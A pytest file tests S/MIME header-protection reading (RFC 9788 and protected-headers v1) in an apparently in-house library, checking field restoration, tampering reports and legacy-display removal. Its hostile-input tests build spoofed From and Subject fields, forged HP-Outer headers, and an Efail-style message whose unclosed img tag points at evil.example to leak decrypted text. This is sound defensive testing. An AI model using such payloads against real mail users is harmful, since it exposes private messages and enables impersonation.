"""Header protection, receiving side (smime/hp_read.py): RFC 9788 hp="clear"/"cipher" with
HP-Outer and legacy display, protected-headers="v1", and the hostile cases.

Messages are assembled here from the CMS primitives (not through smimekit.sign/encrypt), so
what is read does not depend on what the sending side writes by default.
"""

from __future__ import annotations

import base64
import binascii
import json
from pathlib import Path

import pytest
from pki import DATE, Identity

import smimekit
from smimekit.cms.enveloped import encrypt_enveloped
from smimekit.cms.signed import SignerSpec, sign_data
from smimekit.errors import MIMEError
from smimekit.smime.canonical import Entity
from smimekit.smime.hp_read import MAX_PROTECTED_FIELDS, restore
from smimekit.smime.message import build_multipart_signed, build_pkcs7_mime

ALICE = "alice@example.org"
PROTECTED = (f"From: Alice <{ALICE}>\r\nTo: bob@example.org\r\nSubject: the real subject\r\n"
             f"Date: {DATE}\r\nMessage-ID: <hp@example.org>\r\nKeywords: secret\r\n")
# What an hcp_baseline sender writes outside: Subject obscured, Keywords removed.
HP_OUTER = (f"HP-Outer: From: Alice <{ALICE}>\r\nHP-Outer: To: bob@example.org\r\n"
            "HP-Outer: Subject: [...]\r\n"
            f"HP-Outer: Date: {DATE}\r\nHP-Outer: Message-ID: <hp@example.org>\r\n")
OUTER = (f"Received: from mx.example.org by mx.example.net; {DATE}\r\nFrom: Alice <{ALICE}>\r\n"
         f"To: bob@example.org\r\nSubject: [...]\r\nDate: {DATE}\r\n"
         "Message-ID: <hp@example.org>\r\n")
BODY = b"The real body.\r\n"


def _payload(hp: str = "cipher", headers: str = PROTECTED, hp_outer: str = HP_OUTER,
             content: bytes = b'Content-Type: text/plain; charset=us-ascii; hp="{hp}"\r\n\r\n'
             + BODY) -> bytes:
    return (headers + (hp_outer if hp == "cipher" else "")).encode() + content.replace(
        b"{hp}", hp.encode())


def _signed(who: Identity, payload: bytes, outer: str = "") -> bytes:
    der = sign_data(payload, [SignerSpec(who.key, who.cert)])
    headers = Entity.parse(outer.encode() + b"\r\n").headers if outer else ()
    return build_multipart_signed(headers, payload, der, "sha-256")


def _encrypted(to: Identity, content: bytes, outer: str = OUTER) -> bytes:
    der = encrypt_enveloped(content, [to.cert])
    return build_pkcs7_mime(Entity.parse(outer.encode() + b"\r\n").headers, der,
                            "authenticated_enveloped_data")


def _sign_encrypt(alice: Identity, bob: Identity, payload: bytes, outer: str = OUTER) -> bytes:
    return _encrypted(bob, _signed(alice, payload), outer)


def _headers(message: bytes, name: str) -> list[str]:
    return [h.value() for h in Entity.parse(message).headers if h.lname == name.lower()]


# -- hp="cipher" -----------------------------------------------------------------------------


def test_cipher_decrypt_restores_the_protected_fields_and_drops_the_obscured_outer_ones(
        bob: Identity) -> None:
    sealed = _encrypted(bob, _payload("cipher"))
    result = smimekit.decrypt(sealed, bob.key, bob.cert)
    hp = result.header_protection
    assert hp is not None and (hp.scheme, hp.mode) == ("rfc9788", "cipher")
    assert hp.protected == ("From", "To", "Subject", "Date", "Message-ID", "Keywords")
    assert hp.obscured == ("Subject", "Keywords")
    assert hp.disagreed == () and hp.problems == ()
    out = result.content
    assert _headers(out, "Subject") == ["the real subject"]
    assert _headers(out, "Keywords") == ["secret"]
    assert _headers(out, "HP-Outer") == []
    assert _headers(out, "Received") == [f"from mx.example.org by mx.example.net; {DATE}"]
    assert out.endswith(BODY)


def test_outer_subject_rewritten_on_the_way_is_reported_as_disagreeing(bob: Identity) -> None:
    sealed = _encrypted(bob, _payload("cipher"),
                        OUTER.replace("Subject: [...]", "Subject: [SPAM] [...]"))
    result = smimekit.decrypt(sealed, bob.key, bob.cert)
    assert result.header_protection is not None
    assert result.header_protection.disagreed == ("Subject",)
    assert _headers(result.content, "Subject") == ["the real subject"]


def test_outer_reply_to_added_on_the_way_is_dropped_and_reported(bob: Identity) -> None:
    sealed = _encrypted(bob, _payload("cipher"), OUTER + "Reply-To: mallory@example.net\r\n")
    result = smimekit.decrypt(sealed, bob.key, bob.cert)
    hp = result.header_protection
    assert hp is not None and hp.disagreed == ("Reply-To",)
    assert _headers(result.content, "Reply-To") == []


def test_hp_outer_forged_outside_the_payload_is_ignored(bob: Identity) -> None:
    """HP-Outer only counts inside the encryption; outside, anyone can write one to make a
    changed field look explained."""
    forged = OUTER.replace("Subject: [...]", "Subject: pay invoice 4711")
    sealed = _encrypted(bob, _payload("cipher"),
                        forged + "HP-Outer: Subject: pay invoice 4711\r\n")
    result = smimekit.decrypt(sealed, bob.key, bob.cert)
    hp = result.header_protection
    assert hp is not None and hp.disagreed == ("Subject",)
    assert any("outside the Cryptographic Payload ignored" in n for n in hp.notes)
    assert _headers(result.content, "HP-Outer") == []
    assert _headers(result.content, "Subject") == ["the real subject"]


def test_sign_encrypt_verdict_lists_protected_and_obscured_fields(
        alice: Identity, bob: Identity, trust: list) -> None:
    sealed = _sign_encrypt(alice, bob, _payload("cipher"))
    result = smimekit.decrypt_verify(sealed, bob.key, bob.cert, trust=trust)
    verdict = result.verdict
    assert verdict.valid, verdict.summary()
    hp = verdict.header_protection
    assert hp is not None and hp.mode == "cipher" and hp.obscured == ("Subject", "Keywords")
    assert "protected headers (rfc9788, cipher): From, To, Subject" in verdict.summary()
    report = json.loads(verdict.to_json())["header_protection"]
    assert report["obscured"] == ["Subject", "Keywords"] and report["scheme"] == "rfc9788"
    assert _headers(result.content, "Subject") == ["the real subject"]


def test_decrypt_of_sign_encrypt_shows_protected_fields_and_keeps_the_signature_whole(
        alice: Identity, bob: Identity, trust: list) -> None:
    """Decrypting only: the fields come from inside the (not yet verified) signature; the
    signed entity stays whole, so verify on the output still passes and shows them too."""
    sealed = _sign_encrypt(alice, bob, _payload("cipher"))
    decrypted = smimekit.decrypt(sealed, bob.key, bob.cert)
    assert _headers(decrypted.content, "Subject") == ["the real subject"]
    assert decrypted.header_protection is not None
    assert decrypted.header_protection.obscured == ("Subject", "Keywords")
    verified = smimekit.verify(decrypted.content, trust=trust)
    assert verified.verdict.valid
    hp = verified.verdict.header_protection
    assert hp is not None and hp.mode == "clear" and hp.disagreed == ()
    assert any('hp="cipher" on a message that is not encrypted' in n for n in hp.notes)
    assert _headers(verified.content, "Subject") == ["the real subject"]


def test_signer_is_bound_to_the_protected_from(alice: Identity, bob: Identity,
                                               trust: list) -> None:
    boss = PROTECTED.replace(f"Alice <{ALICE}>", "Boss <boss@example.org>")
    sealed = _sign_encrypt(alice, bob, _payload("cipher", headers=boss),
                           OUTER.replace(f"From: Alice <{ALICE}>\r\n", ""))
    verdict = smimekit.decrypt_verify(sealed, bob.key, bob.cert, trust=trust,
                                      raise_for_failure=False).verdict
    assert not verdict.valid and verdict.from_address == "boss@example.org"
    assert "boss@example.org is not an address of the signer's certificate" in (
        " ".join(verdict.all_reasons()))


# -- hp="clear" ------------------------------------------------------------------------------


def test_clear_signed_only_protected_fields_win_over_a_changed_outer_subject(
        alice: Identity, trust: list) -> None:
    outer = OUTER.replace("Subject: [...]", "Subject: You are fired")
    signed = _signed(alice, _payload("clear"), outer)
    result = smimekit.verify(signed, trust=trust)
    hp = result.verdict.header_protection
    assert result.verdict.valid
    assert hp is not None and (hp.mode, hp.obscured) == ("clear", ())
    assert "Subject" in hp.disagreed and "Keywords" in hp.disagreed
    assert _headers(result.content, "Subject") == ["the real subject"]
    assert any("differ from what the sender protected" in w for w in result.verdict.warnings)


def test_hp_outer_inside_a_clear_payload_explains_nothing(alice: Identity, trust: list) -> None:
    payload = _payload("clear", headers=PROTECTED + "HP-Outer: Subject: [...]\r\n")
    signed = _signed(alice, payload, OUTER)
    result = smimekit.verify(signed, trust=trust)
    hp = result.verdict.header_protection
    assert hp is not None and "Subject" in hp.disagreed
    assert _headers(result.content, "HP-Outer") == []


# -- hostile input ---------------------------------------------------------------------------


def test_hp_on_an_unsigned_unencrypted_message_is_ignored(trust: list) -> None:
    plain = (OUTER + 'Content-Type: text/plain; hp="clear"\r\n\r\n').encode() + BODY
    result = smimekit.verify(plain, trust=trust, raise_for_failure=False)
    assert result.verdict.header_protection is None and not result.verdict.valid
    assert restore(Entity.parse(plain), Entity.parse(plain), encrypted=False,
                   signed=False) is None


def test_unknown_hp_value_is_not_header_protection(bob: Identity) -> None:
    sealed = _encrypted(bob, _payload("cipher").replace(b'hp="cipher"', b'hp="maybe"'))
    result = smimekit.decrypt(sealed, bob.key, bob.cert)
    assert result.header_protection is None


def test_two_from_fields_in_the_protected_section_fail_verification(
        alice: Identity, trust: list) -> None:
    two = PROTECTED + "From: Boss <boss@example.org>\r\n"
    signed = _signed(alice, _payload("clear", headers=two), OUTER)
    verdict = smimekit.verify(signed, trust=trust, raise_for_failure=False).verdict
    assert not verdict.valid
    assert "the protected header section has 2 From fields" in verdict.all_reasons()


def test_huge_protected_header_section_is_a_clear_error(bob: Identity) -> None:
    many = PROTECTED + "".join(f"X-Filler-{i}: x\r\n" for i in range(MAX_PROTECTED_FIELDS))
    sealed = _encrypted(bob, _payload("cipher", headers=many))
    with pytest.raises(MIMEError, match="protected header section has 1012 fields"):
        smimekit.decrypt(sealed, bob.key, bob.cert)


def test_huge_protected_header_section_in_octets_is_a_clear_error(bob: Identity) -> None:
    long = PROTECTED + "".join(f"X-Long: {'y' * 900}\r\n" for _ in range(300))
    sealed = _encrypted(bob, _payload("cipher", headers=long))
    with pytest.raises(MIMEError, match="octets"):
        smimekit.decrypt(sealed, bob.key, bob.cert)


def test_cli_decrypt_of_a_huge_protected_section_is_one_line(
        bob: Identity, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from cryptography.hazmat.primitives import serialization

    from smimekit.cli.main import main

    many = PROTECTED + "".join(f"X-Filler-{i}: x\r\n" for i in range(MAX_PROTECTED_FIELDS))
    (tmp_path / "in.eml").write_bytes(_encrypted(bob, _payload("cipher", headers=many)))
    (tmp_path / "key.pem").write_bytes(bob.key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
        serialization.NoEncryption()))
    (tmp_path / "cert.pem").write_bytes(bob.cert.public_bytes(serialization.Encoding.PEM))
    code = main(["decrypt", "--key", str(tmp_path / "key.pem"), "--cert",
                 str(tmp_path / "cert.pem"), str(tmp_path / "in.eml"),
                 "-o", str(tmp_path / "out.eml")])
    err = capsys.readouterr().err
    assert code == 1 and err.count("\n") == 1
    assert "protected header section has 1012 fields" in err and "Traceback" not in err
    assert not (tmp_path / "out.eml").exists()


# -- legacy display (RFC 9788 section 2.1.2) -------------------------------------------------

LEGACY_TEXT = b"Subject: the real subject\r\nKeywords: secret\r\n\r\n"
LEGACY_HTML = (b'<div class="header-protection-legacy-display">\r\n<pre>Subject: the real'
               b" subject</pre>\r\n<div>nested</div>\r\n</div>\r\n")


def _leaf(ctype: str, body: bytes, cte: str = "7bit") -> bytes:
    if cte == "base64":
        body = base64.encodebytes(body).replace(b"\n", b"\r\n")
    elif cte == "quoted-printable":
        body = binascii.b2a_qp(body, istext=True)
    return (f'Content-Type: {ctype}; charset="utf-8"; hp-legacy-display="1"\r\n'
            f"Content-Transfer-Encoding: {cte}\r\n\r\n").encode() + body


@pytest.mark.parametrize("cte", ["7bit", "base64", "quoted-printable"])
def test_text_legacy_display_element_is_removed(bob: Identity, cte: str) -> None:
    leaf = _leaf("text/plain", LEGACY_TEXT + b"Caf\xc3\xa9 body.\r\n", cte)
    content = leaf.replace(b'Content-Type: text/plain; charset="utf-8"',
                           b'Content-Type: text/plain; charset="utf-8"; hp="cipher"', 1)
    result = smimekit.decrypt(_encrypted(bob, _payload("cipher", content=content)), bob.key,
                              bob.cert)
    assert result.header_protection is not None
    assert result.header_protection.legacy_display_removed
    shown = result.as_message()
    assert shown.get_content().replace("\r\n", "\n") == "Café body.\n"
    assert "hp-legacy-display" not in shown["Content-Type"]


def test_html_and_text_legacy_display_in_an_alternative_are_both_removed(bob: Identity) -> None:
    content = (b'Content-Type: multipart/alternative; boundary="b1"; hp="cipher"\r\n\r\n'
               b"--b1\r\n" + _leaf("text/plain", LEGACY_TEXT + b"Plain body.\r\n")
               + b"\r\n--b1\r\n"
               + _leaf("text/html", b"<html><body>\r\n" + LEGACY_HTML + b"<p>Html body.</p>"
                       b"</body></html>\r\n")
               + b"\r\n--b1--\r\n")
    result = smimekit.decrypt(_encrypted(bob, _payload("cipher", content=content)), bob.key,
                              bob.cert)
    assert result.header_protection is not None
    assert result.header_protection.legacy_display_removed
    shown = result.as_message()
    plain, html = (part.get_content() for part in shown.iter_parts())
    assert plain.strip() == "Plain body."
    assert "header-protection-legacy-display" not in html and "nested" not in html
    assert "<p>Html body.</p>" in html


def test_legacy_display_is_kept_when_the_first_lines_are_not_header_fields(
        bob: Identity) -> None:
    leaf = _leaf("text/plain", b"Dear Bob,\r\n\r\nthe body.\r\n")
    content = leaf.replace(b'charset="utf-8"', b'charset="utf-8"; hp="cipher"', 1)
    result = smimekit.decrypt(_encrypted(bob, _payload("cipher", content=content)), bob.key,
                              bob.cert)
    assert result.header_protection is not None
    assert not result.header_protection.legacy_display_removed
    assert result.content.endswith(b"Dear Bob,\r\n\r\nthe body.\r\n")


def test_legacy_display_of_an_unprotected_message_is_left_alone(trust: list) -> None:
    plain = (OUTER.encode() + _leaf("text/plain", LEGACY_TEXT + BODY))
    result = smimekit.verify(plain, trust=trust, raise_for_failure=False)
    assert result.content.endswith(LEGACY_TEXT + BODY)


# -- protected-headers="v1" ------------------------------------------------------------------


def test_v1_legacy_display_part_is_removed_and_subject_restored(bob: Identity) -> None:
    content = (b'Content-Type: multipart/mixed; boundary="6ae"; protected-headers="v1"\r\n\r\n'
               b'--6ae\r\nContent-Type: text/plain; protected-headers="v1"\r\n\r\n'
               b"Subject: the real subject\r\n\r\n--6ae\r\n"
               b"Content-Type: text/plain; charset=us-ascii\r\n\r\n" + BODY + b"--6ae--\r\n")
    sealed = _encrypted(bob, _payload("v1", content=content),
                        OUTER.replace("Subject: [...]", "Subject: ..."))
    result = smimekit.decrypt(sealed, bob.key, bob.cert)
    hp = result.header_protection
    assert hp is not None and hp.scheme == "protected-headers-v1" and hp.mode == "cipher"
    assert hp.legacy_display_removed and hp.obscured == ("Subject",)
    assert "Keywords" in hp.disagreed  # v1 has no HP-Outer: a removed field is unexplained
    shown = result.as_message()
    assert shown["Subject"] == "the real subject"
    assert shown.get_content_type() == "text/plain"
    assert shown.get_content().strip() == "The real body."


def test_protected_section_without_from_fails_even_with_a_matching_outer_from(
        alice: Identity, trust: list) -> None:
    """The outer From is not shown (and not protected): a protected section without a From
    names no sender, so the signer is bound to nobody."""
    no_from = PROTECTED.replace(f"From: Alice <{ALICE}>\r\n", "")
    signed = _signed(alice, _payload("clear", headers=no_from), OUTER)
    result = smimekit.verify(signed, trust=trust, raise_for_failure=False)
    assert not result.verdict.valid
    assert ("the protected header section has no From field; the outer From is not"
            " protected") in result.verdict.all_reasons()
    assert _headers(result.content, "From") == []


def test_decrypt_keeps_a_broken_signed_entity_for_verify(bob: Identity) -> None:
    """Decrypting only: a multipart/signed inside that cannot be split is verify's to report;
    decrypt still gives the plaintext back (no header protection read from it)."""
    broken = (b'Content-Type: multipart/signed; boundary="x"; protocol='
              b'"application/pkcs7-signature"; micalg=sha-256\r\n\r\n--x\r\n'
              b"Content-Type: text/plain\r\n\r\nonly one part\r\n--x--\r\n")
    result = smimekit.decrypt(_encrypted(bob, broken), bob.key, bob.cert)
    assert result.header_protection is None
    assert result.content.endswith(b"only one part\r\n--x--\r\n")


def test_hp_on_a_part_below_the_payload_root_is_not_header_protection(
        alice: Identity, trust: list) -> None:
    """Only the Cryptographic Payload's root declares it (RFC 9788 2.1): a part further down
    with hp= and header fields of its own changes nothing."""
    content = (b'Content-Type: multipart/mixed; boundary="m"\r\n\r\n--m\r\n'
               b"Content-Type: text/plain\r\n\r\nhello\r\n--m\r\n"
               b'From: Boss <boss@example.org>\r\nContent-Type: text/plain; hp="clear"\r\n\r\n'
               b"I am the boss\r\n--m--\r\n")
    signed = _signed(alice, PROTECTED.encode() + content, OUTER)
    result = smimekit.verify(signed, trust=trust)
    assert result.verdict.valid and result.verdict.header_protection is None
    assert result.verdict.from_address == ALICE


def test_an_encrypted_part_next_to_plain_ones_gets_no_header_protection(bob: Identity) -> None:
    """Efail: the part is shown alone; its hp= and header fields are not the message's."""
    part = _encrypted(bob, _payload("cipher"), "")
    mixed = (OUTER.encode() + b'Content-Type: multipart/mixed; boundary="e"\r\n\r\n--e\r\n'
             b"Content-Type: text/html\r\n\r\n<img src='http://evil.example/\r\n--e\r\n"
             + part + b"\r\n--e--\r\n")
    result = smimekit.decrypt(mixed, bob.key, bob.cert)
    assert result.partial and result.header_protection is None
